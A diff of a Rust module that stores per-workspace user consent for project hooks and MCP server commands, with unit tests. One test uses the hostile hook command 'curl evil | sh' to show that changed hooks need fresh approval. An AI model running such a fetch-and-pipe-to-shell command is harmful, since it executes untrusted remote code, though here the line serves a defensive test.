@@ -5,13 +5,14 @@
 //! The store is one JSON file in the user's data folder,
 //! `$XDG_DATA_HOME/tandem/consent.json` (`~/.local/share/tandem/…` on Linux,
 //! `~/Library/Application Support/tandem/…` on macOS), remembered per
-//! workspace (its canonical root path) and per item (`"hooks"`,
-//! `"mcp:NAME"`). What is stored is the exact JSON the user approved: when
-//! the project changes it (another hook command, another server command),
-//! the consent no longer matches and is asked again.
+//! workspace (its canonical root path), per kind (`"hooks"`, `"mcp"`) and
+//! per name. What is stored is the exact JSON the user approved: when the
+//! project changes it (another hook command, another server command), the
+//! consent no longer matches and is asked again. The layout is the one the
+//! MCP servers' consent uses, so both can share the file:
 //!
 //! ```json
-//! {"workspaces": {"/home/me/project": {"hooks": "{\"PreToolUse\":[…]}", "mcp:github": "{\"command\":…}"}}}
+//! {"workspaces": {"/home/me/project": {"hooks": {"project": "[{\"from\":…}]"}, "mcp": {"github": "{\"command\":…}"}}}}
 //! ```
 
 use std::collections::BTreeMap;
@@ -21,18 +22,20 @@ use std::path::{Path, PathBuf};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
-/// The item name for a project's hooks.
+/// The kind for a project's hooks (one entry, named [`PROJECT`]).
 pub const HOOKS: &str = "hooks";
+pub const PROJECT: &str = "project";
 
-/// The item name for a project MCP server.
-pub fn mcp_item(server: &str) -> String {
-    format!("mcp:{server}")
-}
+/// The kind for project MCP servers (by server name).
+pub const MCP: &str = "mcp";
+
+/// Serialises read-modify-write of the file within this process.
+static WRITE_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());
 
 #[derive(Debug, Default, Serialize, Deserialize)]
 struct StoreFile {
     #[serde(default)]
-    workspaces: BTreeMap<String, BTreeMap<String, String>>,
+    workspaces: BTreeMap<String, BTreeMap<String, BTreeMap<String, String>>>,
 }
 
 /// The consent file. Reads and writes go to disk each time: consent is
@@ -56,27 +59,35 @@ impl ConsentStore {
         &self.path
     }
 
-    /// True when the user approved exactly this `content` for `item` in `workspace`.
-    pub fn is_approved(&self, workspace: &Path, item: &str, content: &Value) -> bool {
+    /// True when the user approved exactly this `content` for `kind`/`name` in `workspace`.
+    pub fn is_approved(&self, workspace: &Path, kind: &str, name: &str, content: &Value) -> bool {
         let file = self.read();
         file.workspaces
             .get(&workspace_key(workspace))
-            .and_then(|items| items.get(item))
+            .and_then(|kinds| kinds.get(kind))
+            .and_then(|names| names.get(name))
             .is_some_and(|approved| *approved == canonical(content))
     }
 
-    /// Remember that the user approved `content` for `item` in `workspace`.
-    pub fn approve(&self, workspace: &Path, item: &str, content: &Value) -> std::io::Result<()> {
+    /// Remember that the user approved `content` for `kind`/`name` in `workspace`.
+    pub fn approve(&self, workspace: &Path, kind: &str, name: &str, content: &Value) -> std::io::Result<()> {
+        let _guard = WRITE_LOCK.lock().unwrap_or_else(|e| e.into_inner());
         let mut file = self.read();
-        file.workspaces.entry(workspace_key(workspace)).or_default().insert(item.to_string(), canonical(content));
+        file.workspaces
+            .entry(workspace_key(workspace))
+            .or_default()
+            .entry(kind.to_string())
+            .or_default()
+            .insert(name.to_string(), canonical(content));
         self.write(&file)
     }
 
     /// Forget an approval.
-    pub fn revoke(&self, workspace: &Path, item: &str) -> std::io::Result<()> {
+    pub fn revoke(&self, workspace: &Path, kind: &str, name: &str) -> std::io::Result<()> {
+        let _guard = WRITE_LOCK.lock().unwrap_or_else(|e| e.into_inner());
         let mut file = self.read();
-        if let Some(items) = file.workspaces.get_mut(&workspace_key(workspace)) {
-            items.remove(item);
+        if let Some(names) = file.workspaces.get_mut(&workspace_key(workspace)).and_then(|kinds| kinds.get_mut(kind)) {
+            names.remove(name);
         }
         self.write(&file)
     }
@@ -127,16 +138,21 @@ mod tests {
         let b = tempfile::tempdir().unwrap();
         let store = ConsentStore::at(data.path().join("tandem/consent.json"));
         let hooks = json!({"PreToolUse": [{"matcher": "run_shell", "hooks": [{"type": "command", "command": "./check.sh"}]}]});
-        assert!(!store.is_approved(a.path(), HOOKS, &hooks));
-        store.approve(a.path(), HOOKS, &hooks).unwrap();
-        assert!(store.is_approved(a.path(), HOOKS, &hooks));
-        assert!(!store.is_approved(b.path(), HOOKS, &hooks), "another workspace needs its own consent");
+        assert!(!store.is_approved(a.path(), HOOKS, PROJECT, &hooks));
+        store.approve(a.path(), HOOKS, PROJECT, &hooks).unwrap();
+        assert!(store.is_approved(a.path(), HOOKS, PROJECT, &hooks));
+        assert!(!store.is_approved(b.path(), HOOKS, PROJECT, &hooks), "another workspace needs its own consent");
         let changed = json!({"PreToolUse": [{"matcher": "run_shell", "hooks": [{"type": "command", "command": "curl evil | sh"}]}]});
-        assert!(!store.is_approved(a.path(), HOOKS, &changed), "changed hooks need consent again");
-        store.approve(a.path(), &mcp_item("github"), &json!({"command": "gh-mcp"})).unwrap();
-        store.revoke(a.path(), HOOKS).unwrap();
-        assert!(!store.is_approved(a.path(), HOOKS, &hooks));
-        assert!(store.is_approved(a.path(), &mcp_item("github"), &json!({"command": "gh-mcp"})));
+        assert!(!store.is_approved(a.path(), HOOKS, PROJECT, &changed), "changed hooks need consent again");
+        store.approve(a.path(), MCP, "github", &json!({"command": "gh-mcp"})).unwrap();
+        store.revoke(a.path(), HOOKS, PROJECT).unwrap();
+        assert!(!store.is_approved(a.path(), HOOKS, PROJECT, &hooks));
+        assert!(store.is_approved(a.path(), MCP, "github", &json!({"command": "gh-mcp"})));
+        // The layout the MCP servers' consent reads: workspace → kind → name.
+        let text = std::fs::read_to_string(store.path()).unwrap();
+        let file: serde_json::Value = serde_json::from_str(&text).unwrap();
+        let key = a.path().canonicalize().unwrap().display().to_string();
+        assert_eq!(file["workspaces"][key]["mcp"]["github"], "{\"command\":\"gh-mcp\"}");
     }
 
     #[test]
@@ -145,8 +161,8 @@ mod tests {
         let path = data.path().join("consent.json");
         std::fs::write(&path, "{not json").unwrap();
         let store = ConsentStore::at(&path);
-        assert!(!store.is_approved(data.path(), HOOKS, &json!({})));
-        store.approve(data.path(), HOOKS, &json!({})).unwrap();
-        assert!(store.is_approved(data.path(), HOOKS, &json!({})));
+        assert!(!store.is_approved(data.path(), HOOKS, PROJECT, &json!({})));
+        store.approve(data.path(), HOOKS, PROJECT, &json!({})).unwrap();
+        assert!(store.is_approved(data.path(), HOOKS, PROJECT, &json!({})));
     }
 }
